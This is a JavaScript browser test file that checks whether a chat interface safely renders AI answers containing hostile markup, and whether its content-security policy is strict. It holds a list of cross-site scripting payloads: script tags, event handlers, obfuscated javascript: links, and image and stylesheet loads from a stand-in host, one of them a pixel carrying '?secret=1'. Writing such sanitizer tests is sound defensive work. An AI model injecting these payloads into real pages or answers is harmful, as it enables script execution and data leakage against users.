/** A model, or a document that it repeats, tries to make the page run or load something. */

import assert from "node:assert/strict";
import { say, until } from "./chat.mjs";

const RUN = "window.ran=(window.ran||0)+1";
const AWAY = "https://foreign.invalid";

const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>" src="${AWAY}/frame"></iframe>`,
  `[click](javascript:${RUN})`,
  `[click](JaVa\tScRiPt:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
  `[click](vbscript:x) [click](blob:${AWAY}/x) [click](file:///etc/passwd)`,
  `![picture](${AWAY}/pixel.png?secret=1)`,
  `[![nested](${AWAY}/nested.png)](javascript:${RUN})`,
  `![one](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `<a href="javascript:${RUN}" onmouseover="${RUN}">over</a>`,
  `<style>@import url(${AWAY}/style.css); body{background:url(${AWAY}/ground.png)}</style>`,
  `<link rel="stylesheet" href="${AWAY}/link.css"><base href="${AWAY}/"><meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<form action="${AWAY}/form"><button formaction="javascript:${RUN}">go</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details><video><source onerror="${RUN}"></video>`,
  `> - **[x](javascript:${RUN})** <img src=x onerror=${RUN}>\n>   1. ![deep](${AWAY}/deep.png)`,
  `| a |\n| --- |\n| <img src=x onerror=${RUN}> ![cell](//foreign.invalid/cell.png) |`,
  "```html\n<script>" + RUN + "</script>\n```\n\n```\"><img/src=x/onerror=" + RUN + ">\nx\n```",
  `$\\href{javascript:${RUN}}{x} \\includegraphics{${AWAY}/math.png} \\htmlData{on=1}{y}$`,
  `$$\\url{javascript:${RUN}} \\htmlStyle{background:url(${AWAY}/katex.png)}{x}$$`,
  `[ref]: javascript:${RUN}\n\n[ref] <javascript:${RUN}> www.foreign.invalid ${AWAY}/auto`,
  `<img src="${AWAY}/open.png" onerror="${RUN}`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}> ![note](${AWAY}/note.png)`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
];

export async function hostile_answers_run_nothing_and_load_nothing({ chat, context }) {
  await provesThatItWouldSee(context);
  await chat.open();
  const asked = [];
  context.on("request", (request) => asked.push(request.url()));
  for (const [at, payload] of PAYLOADS.entries()) await chat.ask(say(`Before.\n\n${payload}\n\nend${at}`));
  await chat.says(`end${PAYLOADS.length - 1}`);
  for (const again of [false, true]) {
    if (again) await chat.page.reload();
    await until("all answers are drawn", async () => (await chat.answers.count()) === PAYLOADS.length);
    await chat.atRest();
    for (const link of await chat.answers.locator("a").all()) await link.hover();
    const addresses = await chat.answers.locator("a, img, [src], [href]").evaluateAll((all) =>
      all.map((each) => each.getAttribute("href") ?? each.getAttribute("src")),
    );
    assert.ok(addresses.length > 0);
    for (const address of addresses) assert.match(address, /^(https?:\/\/|mailto:|#)/);
    const forbidden = "script, iframe, img, style, link, base, meta, form, object, embed, video, details";
    assert.deepEqual(await chat.answers.locator(forbidden).evaluateAll((all) => all.map((each) => each.outerHTML)), []);
    const handlers = await chat.answers.locator("*").evaluateAll((all) =>
      all.flatMap((each) => each.getAttributeNames().filter((name) => /^on/i.test(name))),
    );
    assert.deepEqual(handlers, []);
    assert.equal(await chat.page.evaluate(() => window.ran), undefined);
  }
  const away = asked.filter((address) => /^(https?|wss?):/.test(address) && new URL(address).origin !== new URL(chat.page.url()).origin);
  assert.deepEqual(away, []);
}

/** The same payloads in a page without any care do run and load: what is watched for would be seen. */
async function provesThatItWouldSee(context) {
  const careless = await context.browser().newContext();
  const asked = [];
  await careless.route("**", (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const page = await careless.newPage();
  await page.setContent(`${PAYLOADS[0]}${PAYLOADS[1]}<img src="${AWAY}/pixel.png">`);
  await until("the careless page ran it", () => page.evaluate(() => window.ran >= 2));
  await until("the careless page loaded it", () => asked.includes(`${AWAY}/pixel.png`));
  await careless.close();
}

export async function the_pages_policy_lets_it_ask_its_own_server_only({ chat }) {
  const response = await chat.page.goto("/");
  const policy = response.headers()["content-security-policy"];
  for (const part of ["default-src 'none'", "connect-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"])
    assert.ok(policy.includes(part), policy);
  const scripts = policy.split(";").find((part) => part.trim().startsWith("script-src "));
  assert.doesNotMatch(scripts, /unsafe|\*|https?:/);
}
